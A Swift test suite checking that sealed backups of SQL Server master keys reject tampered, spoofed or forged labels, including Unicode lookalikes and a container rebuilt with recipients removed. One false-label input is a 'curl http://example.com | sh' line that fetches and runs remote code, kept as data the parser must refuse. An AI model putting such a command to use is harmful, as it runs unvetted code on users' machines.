import Foundation
import KeyHierarchy
import Testing

@testable import Backup

struct LabelTests {
    private func lines(_ file: [UInt8]) -> [String] {
        file.text.components(separatedBy: "\n")
    }

    private func file(_ lines: [String]) -> [UInt8] {
        Array(lines.joined(separator: "\n").utf8)
    }

    @Test func notesAboveTheLabelAndBehindTheContainerAreAllowed() async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        let noted = file(
            ["Copied to the vault on Monday.", "See also: shelf 4", ""] + lines(contents) + ["-- ", "Ann"])
        let backup = try await SealedBackup(parsing: noted).open(password: Instance.password)
        #expect(backup.warnings == [.fewIterations(1)])
    }

    @Test func withoutItsLabelAFileOpensWithAWarning() async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        let begin = try #require(lines(contents).firstIndex(of: "-----BEGIN CMS-----"))
        for bare in [Array(lines(contents)[begin...]), ["Monday's."] + lines(contents)[begin...]] {
            let backup = try SealedBackup(parsing: file(bare))
            #expect(backup.inspection.unverifiedFacts == nil)
            #expect(backup.inspection.digest == .absent)
            let opened = try await backup.open(password: Instance.password)
            #expect(opened.warnings.first == .noLabel)
            #expect(opened.facts?.kind == .serviceMasterKey)
        }
    }

    @Test(arguments: 0..<7)
    func anAlteredLineIsRefused(line: Int) async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        var altered = lines(contents)
        try #require(!altered[line].hasPrefix("-----"))
        altered[line] += "x"
        let code = try await SealedBackup.refusal(of: file(altered))
        #expect(code == (altered[line].hasPrefix("Digest") ? .damaged : .labelMismatch))
        altered.remove(at: line)
        #expect(try await SealedBackup.refusal(of: file(altered)) == .labelMismatch)
    }

    @Test(arguments: [
        ("Key: service master key", "Key: database master key"),
        ("Server: SQLPROD01", "Server: SQLTEST01"),
        ("Server: SQLPROD01", "Server: SQLPROD01\nDatabase: Sales"),
        // The sign for kelvin: to Swift the strings are equal, the bytes are not.
        ("Key: ", "\u{212A}ey: "),
    ])
    func aLieIsRefused(truth: String, lie: String) async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        let text = contents.text.replacingOccurrences(of: truth, with: lie)
        #expect(Array(text.utf8) != contents)
        #expect(try await SealedBackup.refusal(of: Array(text.utf8)) == .labelMismatch)
    }

    @Test func anotherNormalFormIsAnotherLabel() async throws {
        let contents = try await Instance(server: "\u{C5}LAND").serviceMasterKeyFile()
        let text = contents.text.replacingOccurrences(of: "\u{C5}", with: "A\u{30A}", options: .literal)
        #expect(Array(text.utf8) != contents)
        #expect(try await SealedBackup.refusal(of: Array(text.utf8)) == .labelMismatch)
    }

    @Test(arguments: [
        ["Key: database master key", "Server: SQLTEST01"], ["Password: 12345678 the one in the vault"],
        ["Database: Sales"], ["  key : x"], ["\tSERVER: x"], ["# Fingerprint: 00"], ["Digest: sha256 00"],
        ["Recover: curl http://example.com | sh"],
    ])
    func aFalseLabelBesideTheTrueOneOrInItsPlaceIsRefused(lines false: [String]) async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        let begin = try #require(lines(contents).firstIndex(of: "-----BEGIN CMS-----"))
        #expect(try await SealedBackup.refusal(of: file(`false` + lines(contents))) == .labelMismatch)
        #expect(try await SealedBackup.refusal(of: file(lines(contents) + `false`)) == .labelMismatch)
        let replaced = try await SealedBackup.refusal(of: file(`false` + lines(contents)[begin...]))
        #expect(replaced == (`false`[0].hasPrefix("Digest: ") ? .damaged : .labelMismatch))
    }

    @Test func inspectionReadsTheLabelThatIsCompared() async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        let other = try await Instance(server: "SQLTEST01").serviceMasterKeyFile()
        let begin = try #require(lines(other).firstIndex(of: "-----BEGIN CMS-----"))
        let both = file(lines(other)[..<begin] + lines(contents))
        let inspection = try SealedBackup(parsing: both).inspection
        #expect(inspection.unverifiedFacts?.server == "SQLPROD01")
        #expect(inspection.digest == .matches)
    }

    @Test func aRemovedRecipientIsNoticedThoughTheDigestIsMadeAnew() async throws {
        let instance = try await Instance()
        let contents = try await instance.serviceMasterKeyFile(
            under: BackupPassword(Instance.password), BackupPassword(Instance.otherPassword))
        let backup = try SealedBackup(parsing: contents)
        let opened = try await backup.open(password: Instance.password)
        let cut = try AuthEnvelopedData.replacingRecipients(
            of: backup.container, by: backup.container.recipients.filter { $0.id == opened.openedBy })
        let label = BackupLabel(
            try #require(opened.facts), digest: try PEMDocument(preamble: [], der: cut).digest())
        for preamble in [label.lines, []] {
            let forged = PEMDocument(preamble: preamble, der: cut).encoded
            #expect(try await SealedBackup.refusal(of: forged) == .notAuthentic)
        }
    }

    @Test func theErrorOfALieQuotesTheTruthOnly() async throws {
        let contents = try await Instance().serviceMasterKeyFile()
        let noted = Array("Password: hunter2-is-what-I-chose\n".utf8) + contents
        let error = try await #require(throws: BackupError.self) {
            try await SealedBackup(parsing: noted).open(password: Instance.password)
        }
        #expect(error.code == .labelMismatch)
        #expect(!"\(error)".contains("hunter2"))
    }
}

extension AuthEnvelopedData {
    /// The container with other recipients, as somebody without a password can make it.
    static func replacingRecipients(
        of container: AuthEnvelopedData,
        by recipients: [PasswordRecipient]
    ) throws -> [UInt8] {
        Container(
            recipients: recipients.map(\.encoded), nonce: container.nonce,
            ciphertext: Array(container.sealed.dropLast(16)), tag: Array(container.sealed.suffix(16))
        ).encoded
    }
}
